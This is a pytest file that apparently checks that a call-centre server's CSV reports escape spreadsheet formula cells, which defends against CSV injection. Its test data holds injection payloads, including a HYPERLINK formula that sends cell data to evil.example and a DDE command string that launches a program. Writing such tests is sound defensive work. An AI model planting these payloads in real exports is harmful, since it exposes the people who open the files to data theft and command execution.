"""CSV exports carry no live spreadsheet formula, whatever the ids, names and comments say (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import time

import pytest

from server.history.reports import REPORTS, safe_cell

from .conftest import RunningServer
from .test_live_exact import new_tenant

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CALL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = {
    "agent_id": "@ann", "name": "=1+1", "team": "+team", "queue_id": "-sales", "call_id": CALL,
    "disposition": "=cmd|' /C calc'!A0", "reviewer": "@SUM(1+1)", "comment": "=HYPERLINK(\"http://evil.example\")",
    "tab_comment": "\t=1+2", "cr_comment": "\r=3+4", "event_id": "+csat-1",
}
# The hostile values each report shows, escaped.
SHOWN = {
    "calls": ("call_id", "queue_id", "agent_id", "disposition"),
    "agent-performance": ("agent_id", "name", "team"),
    "queue-intervals": ("queue_id",),
    "quality": ("call_id", "agent_id", "reviewer"),
    "satisfaction": ("event_id", "call_id", "agent_id", "comment", "tab_comment", "cr_comment"),
}


def test_a_cell_escape_keeps_numbers_and_plain_text() -> None:
    """Text that starts like a formula gets a leading quote; numbers (negative ones too) and plain text stay."""
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in (-3, -0.5, 0, "", "sales", "a=b", None)] == [-3, -0.5, 0, "", "sales", "a=b", None]


@pytest.mark.parametrize("name", sorted(REPORTS))
async def test_every_report_escapes_formula_cells(server: RunningServer, name: str) -> None:
    """Hostile ids, names, dispositions, reviewers and comments come out of each CSV report as inert text."""
    tenant = new_tenant("csv")
    h = HOSTILE
    now = int(time.time() * 1000) - 120_000
    leg = {"call_id": h["call_id"], "queue_id": h["queue_id"]}
    events = [
        {"event_id": "s1", "type": "agent.state", "ts": now, "agent_id": h["agent_id"], "state": "available",
         "name": h["name"], "team": h["team"], "queues": [h["queue_id"]]},
        {"event_id": "q1", "type": "call.queued", "ts": now + 1000, **leg},
        {"event_id": "a1", "type": "call.answered", "ts": now + 5000, **leg, "agent_id": h["agent_id"]},
        {"event_id": "c1", "type": "call.completed", "ts": now + 60_000, **leg, "agent_id": h["agent_id"],
         "talk_s": 50, "hold_s": 0, "wrap_s": 5, "disposition": h["disposition"]},
        {"event_id": "r1", "type": "quality.scored", "ts": now + 61_000, "call_id": h["call_id"],
         "agent_id": h["agent_id"], "score": 4, "reviewer": h["reviewer"]},
        {"event_id": h["event_id"], "type": "csat.response", "ts": now + 62_000, "call_id": h["call_id"],
         "agent_id": h["agent_id"], "csat": 5, "comment": h["comment"]},
        {"event_id": "csat-2", "type": "csat.response", "ts": now + 63_000, "call_id": "c2", "csat": 1,
         "comment": h["tab_comment"]},
        {"event_id": "csat-3", "type": "csat.response", "ts": now + 64_000, "call_id": "c3", "nps": 0,
         "comment": h["cr_comment"]},
    ]
    async with server.client(server.token(tenant, "ingest")) as client:
        posted = await client.post("/api/events", json=events)
    assert posted.status_code == 200, posted.text
    async with server.client(server.token(tenant, "supervisor", sub="sue")) as client:
        response = await client.get(f"/api/reports/{name}", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    body = rows[1:]
    assert body, f"{name}: no rows"
    cells = {cell for row in body for cell in row}
    live = sorted(cell for cell in cells if cell.startswith(FORMULA_STARTS))
    assert live == [], f"{name}: cells a spreadsheet would run: {live}"
    for field in SHOWN[name]:
        assert "'" + h[field] in cells, f"{name}: {field} not shown escaped"
    if name == "satisfaction":
        header = rows[0]
        assert sorted(r[header.index("csat")] for r in body) == ["", "1", "5"]  # numbers stay numbers
        assert sorted(r[header.index("nps")] for r in body) == ["", "", "0"]
